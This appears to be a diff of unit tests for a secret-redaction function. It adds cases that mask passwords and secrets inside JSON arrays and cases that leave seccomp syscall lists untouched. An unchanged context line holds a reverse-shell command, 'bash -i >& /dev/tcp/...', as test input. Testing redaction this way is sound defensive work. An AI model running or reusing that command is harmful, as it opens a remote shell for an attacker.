@@ -135,6 +135,16 @@ describe('forms', () => {
     ['curl -H "Authorization: Bearer 0123456789abcdef0123" x', 'curl -H "Authorization: Bearer [token]" x'],
     ['export API_TOKEN=abc; run', 'export API_TOKEN=[token]; run'],
     ['password: hunter2', 'password: [password]'],
+    ['["SET","db_password","velvet"]', '["SET","db_password","[password]"]'],
+    ['["a","b","c","velvet_token","summer","x"]', '["a","b","c","velvet_token","[token]","x"]'],
+    [
+      '["admin","carol","db_secret","mossy","north","Zoe"]',
+      '["admin","carol","db_secret","[secret]","north","Zoe"]',
+    ],
+    [
+      '["chown","clone","db_secret","m1-lab","mkdir","mount"]',
+      '["chown","clone","db_secret","[secret]","mkdir","mount"]',
+    ],
   ])('%s', (text, masked) => {
     expect(inText(text)).toBe(masked);
   });
@@ -151,6 +161,10 @@ describe('forms', () => {
     'python3 /app/server.py',
     'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1',
     'the password is kept elsewhere',
+    // Of a profile of seccomp.
+    '{"names":["madvise","memfd_create","memfd_secret","mincore","mkdir","mkdirat"],"action":"SCMP_ACT_ALLOW"}',
+    "['memfd_create', 'memfd_secret', 'mincore', 'mkdir', 'mkdirat', 'mknod']",
+    '["memfd_secret","mincore","mkdir","mkdirat","mknod","mlock"]',
   ])('%s stays as it is', (text) => {
     expect(inText(text)).toBe(text);
   });
